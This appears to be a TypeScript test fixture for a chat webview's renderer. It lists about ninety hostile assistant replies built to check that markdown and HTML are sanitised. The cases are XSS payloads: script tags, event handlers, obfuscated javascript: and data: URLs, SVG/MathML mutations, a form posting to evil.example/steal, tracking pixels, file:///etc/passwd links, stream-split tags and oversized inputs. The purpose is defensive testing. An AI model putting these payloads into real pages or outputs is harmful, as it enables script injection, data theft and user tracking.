// Hostile assistant replies. Each tries to run script (sets window.__pwned, opens a dialog),
// to reach the network (evil.example), or to navigate the webview. `chunks`, when given, is the
// exact split used for the streamed run (HTML split across chunk boundaries).
export interface HostileCase {
  group: string;
  name: string;
  text: string;
  chunks?: string[];
}

const PWN = 'window.__pwned=1;alert(1)';
const B64_SCRIPT = 'PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+'; // <script>window.__pwned=1</script>

const cases: HostileCase[] = [];
const add = (group: string, name: string, text: string, chunks?: string[]) => cases.push({ group, name, text, chunks });

// --- script tags
add('script', 'plain script tag', `Hello\n\n<script>${PWN}</script>\n\nbye`);
add('script', 'external script', '<SCRIPT SRC=http://evil.example/x.js></SCRIPT>');
add('script', 'nested split tag', `<scr<script>ipt>${PWN}</scr</script>ipt>`);
add('script', 'script in list and table', `- item <script>${PWN}</script>\n\n| a |\n|---|\n| <script>${PWN}</script> |\n`);
add('script', 'closing p then script', `text</p><script>${PWN}</script><p>`);
add('script', 'script with slash attribute', `<script/x>${PWN}</script>`);
add('script', 'noscript title breakout', `<noscript><p title="</noscript><img src=x onerror=${PWN}>">`);
add('script', 'script inside blockquote and heading', `> <script>${PWN}</script>\n\n# <script>${PWN}</script>`);

// --- event handler attributes
add('handlers', 'img onerror', `<img src=x onerror="${PWN}">`);
add('handlers', 'body onload', `<body onload="${PWN}">`);
add('handlers', 'div onmouseover', `<div onmouseover="${PWN}" style="position:fixed;inset:0">hover</div>`);
add('handlers', 'anchor onclick', `<a href="https://ok.example" onclick="${PWN}">x</a>`);
add('handlers', 'details ontoggle', `<details open ontoggle="${PWN}"><summary>x</summary></details>`);
add('handlers', 'input autofocus onfocus', `<input autofocus onfocus="${PWN}">`);
add('handlers', 'video source onerror', `<video><source onerror="${PWN}"></video>`);
add('handlers', 'marquee onstart', `<marquee onstart="${PWN}">x</marquee>`);
add('handlers', 'unquoted handler, backticks', '<img src=x onerror=`' + PWN + '`>');
add('handlers', 'handler in markdown link title', `[x](https://ok.example "t\\" onmouseover=\\"${PWN}")`);

// --- dangerous URL schemes, obfuscated
add('urls', 'javascript link', `[click](javascript:${PWN})`);
add('urls', 'mixed case scheme', `[click](JaVaScRiPt:${PWN})`);
add('urls', 'angle-bracket destination', `[click](<javascript:${PWN}>)`);
add('urls', 'tab entity in scheme', `[click](jav&#x09;ascript:${PWN})`);
add('urls', 'decimal entity scheme', `[click](&#106;&#97;vascript:${PWN})`);
add('urls', 'colon entity', `[click](javascript&colon;${PWN})`);
add('urls', 'percent-encoded scheme', `[click](%6A%61vascript:${PWN})`);
add('urls', 'control char prefix', `[click](\u0001javascript:${PWN})`);
add('urls', 'data html link', `[click](data:text/html;base64,${B64_SCRIPT})`);
add('urls', 'vbscript link', '[click](vbscript:msgbox(1))');
add('urls', 'file and protocol-relative', '[f](file:///etc/passwd) [p](//evil.example/x) [r](relative/path)');
add('urls', 'raw html anchor javascript', `<a href="javascript:${PWN}">raw</a> and <a href=" &#14;javascript:${PWN}">ent</a>`);
add('urls', 'javascript with slashes', `[click](javascript://%0A${PWN})`);

// --- markdown image injections (images are never loaded)
add('images', 'javascript image', `![x](javascript:${PWN})`);
add('images', 'tracking pixel https', '![pixel](https://evil.example/track.png) ![p2](http://evil.example/t.gif "t")');
add('images', 'data svg image', `![x](data:image/svg+xml;base64,${B64_SCRIPT})`);
add('images', 'image inside javascript link', `[![img](https://evil.example/i.png)](javascript:${PWN})`);
add('images', 'attribute breakout in src', `![x](x" onerror="${PWN})`);
add('images', 'reference image', `![logo][l]\n\n[l]: https://evil.example/logo.png`);

// --- SVG and MathML tricks
add('svg-mathml', 'svg script', `<svg><script>${PWN}</script></svg>`);
add('svg-mathml', 'svg onload', `<svg onload="${PWN}"/>`);
add('svg-mathml', 'svg xlink javascript', `<svg><a xlink:href="javascript:${PWN}"><text x="0" y="20">x</text></a></svg>`);
add('svg-mathml', 'mathml mglyph style mutation', `<math><mtext><table><mglyph><style><img src=x onerror="${PWN}">`);
add('svg-mathml', 'svg animate onbegin', `<svg><animate onbegin="${PWN}" attributeName="x" dur="1s"/></svg>`);
add('svg-mathml', 'svg use data uri', `<svg><use href="data:image/svg+xml;base64,${B64_SCRIPT}#x"/></svg>`);
add('svg-mathml', 'math href', `<math href="javascript:${PWN}"><mi>click</mi></math>`);
add('svg-mathml', 'foreignObject iframe', `<svg><foreignObject><iframe srcdoc="<script>${PWN}</script>"></iframe></foreignObject></svg>`);

// --- iframes, objects, embeds
add('embeds', 'iframe javascript src', `<iframe src="javascript:${PWN}"></iframe>`);
add('embeds', 'iframe srcdoc', `<iframe srcdoc="&lt;script&gt;${PWN}&lt;/script&gt;"></iframe>`);
add('embeds', 'object data', `<object data="data:text/html;base64,${B64_SCRIPT}"></object>`);
add('embeds', 'embed src', '<embed src="https://evil.example/x.swf">');
add('embeds', 'frameset and portal', '<frameset><frame src="https://evil.example"></frameset><portal src="https://evil.example"></portal>');

// --- style / meta / base / form / link
add('meta-tags', 'style with remote url', '<style>body{background:url(https://evil.example/s.png)} *{display:none}</style>');
add('meta-tags', 'meta refresh', `<meta http-equiv="refresh" content="0;url=javascript:${PWN}">`);
add('meta-tags', 'base href', '<base href="https://evil.example/">\n\n[rel](page.html)');
add('meta-tags', 'form action and formaction', `<form action="https://evil.example/steal"><input name=q><button formaction="javascript:${PWN}">go</button></form>`);
add('meta-tags', 'link stylesheet and prefetch', '<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example/p>');
add('meta-tags', 'template and style attribute', `<template><script>${PWN}</script></template><p style="background:url(https://evil.example/s)">x</p>`);

// --- markdown link injections
add('md-injection', 'html inside link text', `[<img src=x onerror="${PWN}">](https://ok.example)`);
add('md-injection', 'quote breakout in destination', `[x](https://ok.example/"onmouseover="${PWN})`);
add('md-injection', 'html in code span and emphasis', `\`<script>${PWN}</script>\` *<img src=x onerror=${PWN}>*`);
add('md-injection', 'html in table cells', `| <img src=x onerror=${PWN}> | [x](javascript:${PWN}) |\n|---|---|\n| <svg onload=${PWN}> | ok |`);
add('md-injection', 'task list with html', `- [x] <script>${PWN}</script>\n- [ ] <img src=x onerror=${PWN}>`);
add('md-injection', 'link title with html', `[x](https://ok.example "<script>${PWN}</script>")`);
add('md-injection', 'nested link brackets', `[[x](javascript:${PWN})](https://ok.example)`);

// --- autolinks and linkify
add('autolinks', 'javascript autolink', `<javascript:${PWN}>`);
add('autolinks', 'autolink attribute breakout', `<https://ok.example/a"onmouseover="${PWN}>`);
add('autolinks', 'data autolink', `<data:text/html,<script>${PWN}</script>>`);
add('autolinks', 'bare javascript text', `javascript:${PWN} and www.evil.example and evil.example`);
add('autolinks', 'mailto and vbscript autolinks', '<mailto:x@evil.example> <vbscript:msgbox(1)> <file:///etc/passwd>');

// --- reference-style links
add('reference', 'javascript reference', `[click][r]\n\n[r]: javascript:${PWN}`);
add('reference', 'angle javascript reference', `[click][r]\n\n[r]: <javascript:${PWN}>`);
add('reference', 'data reference', `[click][d]\n\n[d]: data:text/html;base64,${B64_SCRIPT}`);
add('reference', 'title injection in reference', `[click][t]\n\n[t]: https://ok.example "x\\" onclick=\\"${PWN}"`);
add('reference', 'definition before use, split stream', `[r]: javascript:${PWN}\n\nuse [r] here`, ['[r]: java', 'script:', PWN.slice(0, 5), PWN.slice(5) + '\n\nuse [', 'r] here']);

// --- HTML split across chunk boundaries (streamed with exactly these chunks)
add('split', 'script split', `<script>${PWN}</script>`, ['<scr', 'ipt>', PWN, '</scr', 'ipt>']);
add('split', 'handler split', `<img src=x onerror="${PWN}">`, ['<img src=x one', 'rror="', PWN, '">']);
add('split', 'javascript link split', `[a](javascript:${PWN})`, ['[a](java', 'script', ':', PWN, ')']);
add('split', 'raw anchor split', `<a href="javascript:${PWN}">x</a>`, ['<a href="javas', 'cript:', PWN, '">x</', 'a>']);
add('split', 'fence hiding then leaking html', `\`\`\`\n<script>${PWN}</script>\n\`\`\`\n<img src=x onerror=${PWN}>`, ['``', '`\n<scr', 'ipt>', `${PWN}</script>\n\`\``, '`\n<img src=x ', `onerror=${PWN}>`]);
add('split', 'entity split', `[a](&#106;avascript:${PWN})`, ['[a](&#1', '06;ava', 'script:', PWN, ')']);
add('split', 'svg split across lines', `<svg\nonload="${PWN}">`, ['<sv', 'g\n', 'onlo', `ad="${PWN}">`]);

// --- hostile code fence info strings
add('fence-info', 'info string tag breakout', `\`\`\`"><script>${PWN}</script>\ncode\n\`\`\``);
add('fence-info', 'info string handler', `\`\`\`js onload=${PWN}\nlet x = 1;\n\`\`\``);
add('fence-info', 'info string img', `\`\`\` <img src=x onerror=${PWN}>\nx\n\`\`\``);
add('fence-info', 'info string javascript scheme', `~~~javascript:${PWN}\nx\n~~~`);
add('fence-info', 'class breakout language', `\`\`\`js"onmouseover="${PWN}\nx\n\`\`\``);
add('fence-info', 'unclosed fence with html', `\`\`\`html\n<script>${PWN}</script>\n<img src=x onerror=${PWN}>`);

// --- huge inputs
add('huge', 'huge javascript href', `<a href="javascript:${'A'.repeat(60_000)}">x</a> [y](javascript:${'B'.repeat(60_000)})`);
add('huge', 'huge https link', `[x](https://ok.example/${'a'.repeat(100_000)})`);
add('huge', 'many brackets', '['.repeat(20_000) + `x](javascript:${PWN})`);
add('huge', 'deep blockquotes', `${'>'.repeat(3000)} <script>${PWN}</script>`);
add('huge', 'emphasis bomb', '*a'.repeat(20_000) + `<img src=x onerror=${PWN}>`);
add('huge', 'huge title attribute', `[x](https://ok.example "${'"'.repeat(10) + 'T'.repeat(50_000)}")`);

// --- unicode tricks
add('unicode', 'right-to-left override', `[‮https://ok.example‬](javascript:${PWN})`);
add('unicode', 'zero-width in scheme', `[x](java\u200Bscript:${PWN}) [y](java\u200Dscript:${PWN})`);
add('unicode', 'fullwidth scheme', `[x](ｊａｖａｓｃｒｉｐｔ:${PWN})`);
add('unicode', 'NUL and BOM', `\uFEFF[x](\u0000javascript:${PWN})\u0000<scr\u0000ipt>${PWN}</script>`);
add('unicode', 'lone surrogates and line separator', `\uD800[x](javascript\u2028:${PWN})\uDFFF`);
add('unicode', 'homoglyph tags', `＜script＞${PWN}＜/script＞ <ſcript>${PWN}</ſcript>`);

export const HOSTILE_CASES: readonly HostileCase[] = cases;
